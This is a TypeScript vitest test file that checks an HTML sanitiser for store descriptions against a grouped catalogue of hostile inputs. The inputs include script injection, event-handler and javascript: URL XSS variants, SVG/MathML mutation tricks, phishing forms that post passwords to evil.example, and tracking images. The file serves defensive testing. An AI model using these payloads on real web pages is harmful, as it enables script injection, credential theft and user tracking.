// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { htmlPreviews } from "./html-previews";

/** What a store's description may hold, by what it is after. All of them hold "visible", so that a preview is made. */
const HOSTILE: Record<string, readonly string[]> = {
  scripts: [
    "<b>visible</b><script>steal()</script>",
    "<b>visible</b><script src=//evil.example/x.js></script>",
    "<b>visible</b><SCRIPT\n>steal()</SCRIPT >",
    "<b>visible</b><scr<script>ipt>steal()</scr</script>ipt>",
    "<b>visible</b><script>steal()",
    "<b>visible</b><noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
    "<b>visible</b><template><script>steal()</script></template>",
    "<b>visible</b><!--><script>steal()</script>-->",
    "<b>visible</b><textarea><script>steal()</script></textarea><title><script>steal()</script></title>",
  ],
  handlers: [
    "<b onclick=steal()>visible</b>",
    "<b ONCLICK='steal()' onmouseover=\"steal()\">visible</b>",
    "<b>visible</b><img src=x onerror=steal()>",
    "<b>visible</b><img/src/onerror=steal()>",
    "<details open ontoggle=steal()>visible</details>",
    "<b>visible</b><input autofocus onfocus=steal()>",
    "<b>visible</b><video><source onerror=steal()></video><audio src=x onerror=steal()>",
    "<b style='animation-name:x' onanimationstart=steal()>visible</b>",
    "<b>visible</b><marquee onstart=steal()>x</marquee>",
  ],
  "addresses that run": [
    "<a href='javascript:steal()'>visible</a>",
    "<a href=' jAvAsCrIpT:steal()'>visible</a>",
    "<a href='java\tscript:steal()'>visible</a>",
    "<a href='java&#10;script:steal()'>visible</a>",
    "<a href='&#106;avascript&colon;steal()'>visible</a>",
    "<a href='\u0001javascript:steal()'>visible</a>",
    "<a href='data:text/html,<script>steal()</script>'>visible</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>visible</a>",
    "<a href='vbscript:steal()'>visible</a>",
    "<a href='blob:https://shop.example/1'>visible</a>",
    "<a href='file:///etc/passwd'>visible</a>",
    "<a href='//evil.example/'>visible</a>",
    "<a href='\\\\evil.example\\x'>visible</a>",
    "<a xlink:href='javascript:steal()' formaction='javascript:steal()'>visible</a>",
  ],
  "svg and math": [
    "<b>visible</b><svg onload=steal()></svg>",
    "<b>visible</b><svg><script>steal()</script></svg>",
    "<b>visible</b><svg><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
    "<b>visible</b><svg><animate attributeName=href values='javascript:steal()'/></svg>",
    "<b>visible</b><svg><foreignObject><iframe src='javascript:steal()'></iframe></foreignObject></svg>",
    "<b>visible</b><svg><use href='data:image/svg+xml,<svg id=x onload=steal()/>#x'/></svg>",
    "<b>visible</b><math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
    "<b>visible</b><math href='javascript:steal()'>x</math>",
    "<b>visible</b><svg></p><style><a title='</style><img src=x onerror=steal()>'>",
  ],
  "styles that load or cover the page": [
    "<div style='position:fixed;inset:0;z-index:9999;background:#fff'>visible</div>",
    "<b style='background:url(https://evil.example/seen)'>visible</b>",
    "<b>visible</b><style>@import '//evil.example/x.css'; body{display:none}</style>",
    "<b>visible</b><link rel=stylesheet href=//evil.example/x.css>",
    "<b class='fixed inset-0 z-50 bg-white'>visible</b>",
  ],
  "frames, forms and the page's own settings": [
    "<b>visible</b><iframe src='https://evil.example'></iframe>",
    "<b>visible</b><iframe srcdoc='<script>steal()</script>'></iframe>",
    "<b>visible</b><object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<b>visible</b><form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<b>visible</b><button form=x formaction='https://evil.example'>OK</button>",
    "<b>visible</b><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<b>visible</b><base href='https://evil.example/'>",
    "<b>visible</b><dialog open>Sign in again</dialog>",
    "<b>visible</b><portal src='https://evil.example'></portal>",
  ],
  "names that the page's scripts look for": [
    "<b id='__NEXT_DATA__' name='body'>visible</b>",
    "<a id='location' name='location' href='https://evil.example'>visible</a>",
    "<b>visible</b><form id=x><input id=attributes></form>",
    "<b data-radix-portal role='alertdialog' aria-label='x' slot=x is=x-y>visible</b>",
  ],
  "links that keep a hold on the page": [
    "<a href='https://shop.example' target='_blank'>visible</a>",
    "<a href='https://shop.example' target='_top' rel='opener'>visible</a>",
    "<a href='https://shop.example' ping='https://evil.example' download>visible</a>",
  ],
  "pictures that tell who looks": [
    "<b>visible</b><img src='https://evil.example/seen.gif'>",
    "<b>visible</b><picture><source srcset='https://evil.example/seen'><img srcset='https://evil.example/seen'></picture>",
    "<table background='https://evil.example/seen'><tr><td>visible</td></tr></table>",
  ],
};

const ATTRIBUTES: Record<string, readonly string[]> = {
  A: ["href", "rel", "target"],
  TD: ["colspan", "rowspan"],
  TH: ["colspan", "rowspan"],
};
/** Elements that only say how text is built. */
const HARMLESS = new Set(
  `A ABBR B BLOCKQUOTE BR CAPTION CODE DD DEL DIV DL DT EM H1 H2 H3 H4 H5 H6 HR I INS LI OL P PRE Q S SMALL SPAN STRONG
  SUB SUP TABLE TBODY TD TFOOT TH THEAD TR U UL`.split(/\s+/),
);

/** What a browser makes of it that it should not. */
function faultsOf(html: string): string[] {
  const faults: string[] = [];
  const template = document.createElement("template");
  template.innerHTML = html;
  for (const element of template.content.querySelectorAll("*")) {
    if (!HARMLESS.has(element.tagName)) faults.push(`<${element.tagName}>`);
    for (const { name, value } of element.attributes) {
      if (!ATTRIBUTES[element.tagName]?.includes(name)) faults.push(`${element.tagName} ${name}=${value}`);
    }
    const href = element.getAttribute("href");
    if (href !== null && !/^(https?:\/\/|mailto:|tel:|[/#?]?[\w.-]+$)/i.test(href))
      faults.push(`leads to ${href}`);
    if (element.tagName === "A" && !/noopener/.test(element.getAttribute("rel") ?? ""))
      faults.push("keeps a hold");
  }
  return faults;
}

const previewOf = (description: string) => htmlPreviews({ read: { description } })["read.description"] ?? "";

describe.each(Object.entries(HOSTILE))("hostile HTML: %s", (_family, texts) => {
  it.each(texts)("leaves text alone of %s", (text) => {
    const preview = previewOf(text);
    expect(preview).toContain("visible");
    expect(faultsOf(preview)).toEqual([]);
    // A second look, such as at an answer that holds what was sent, makes nothing else of it.
    expect(faultsOf(previewOf(preview))).toEqual([]);
  });
});

it("the faults are seen in what was not sanitised", () => {
  const unseen = Object.values(HOSTILE)
    .flat()
    .filter((text) => faultsOf(text).length === 0);
  expect(unseen).toEqual([]);
});
